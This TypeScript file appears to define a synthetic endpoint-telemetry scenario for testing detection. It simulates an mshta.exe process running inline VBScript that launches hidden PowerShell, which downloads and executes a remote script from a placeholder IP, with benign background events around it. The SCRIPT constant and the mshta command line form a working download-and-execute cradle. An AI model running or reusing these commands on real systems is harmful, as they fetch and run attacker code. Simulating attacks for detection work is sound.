import {
  backgroundTask,
  broker,
  browsing,
  chatting,
  consoleOf,
  indexing,
  nameLookup,
  scanning,
} from "../everyday.ts";
import { FINANCE } from "../machines.ts";
import type { Story } from "../story.ts";

const ADDRESS = "http://203.0.113.71/invoice.txt";
const SCRIPT = `powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('${ADDRESS}')`;

/** The same trick as `mshta-inline-vbscript`, but the child is PowerShell, and it fetches the next stage. */
export const mshtaDownloader: Story = {
  id: "mshta-downloader",
  machine: FINANCE,
  begins: "2026-01-14T16:22:09.714Z",
  steps: [
    ...browsing(-31.4),
    ...chatting(-11.92),
    ...broker(-6.204),
    {
      at: 0,
      who: "explorer",
      does: "starts",
      process: "mshta",
      program: "mshta",
      line: `"C:\\Windows\\System32\\mshta.exe" vbscript:Execute("CreateObject(""WScript.Shell"").Run ""${SCRIPT}"", 0:close")`,
      cwd: "C:\\Users\\j.moreau\\",
    },
    ...scanning(0.088, "mshta"),
    { at: 0.377, who: "mshta", does: "loads", library: "C:\\Windows\\System32\\vbscript.dll" },
    { at: 0.429, who: "mshta", does: "loads", library: "C:\\Windows\\System32\\wshom.ocx" },
    {
      at: 0.556,
      who: "mshta",
      does: "starts",
      process: "powershell",
      program: "powershell",
      line: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\${SCRIPT.replace("powershell.exe", 'powershell.exe"')}`,
    },
    ...consoleOf(0.571, "powershell"),
    { at: 0.702, who: "mshta", does: "ends" },
    { at: 1.163, who: "powershell", does: "loads", library: "C:\\Windows\\System32\\amsi.dll" },
    ...scanning(1.22, "powershell"),
    { at: 2.841, who: "powershell", does: "connects", to: "203.0.113.71", port: 80 },
    // Somebody else's connection, within the same minute.
    {
      at: 4.07,
      who: "edge",
      does: "connects",
      to: "192.0.2.5",
      port: 443,
      host: "intranet.corp.example",
    },
    { at: 6.318, who: "powershell", does: "ends" },
    { at: 6.329, who: "conhost of powershell", does: "ends" },
    ...backgroundTask(12.1),
    ...nameLookup(15.502),
    ...indexing(28.9),
  ],
};
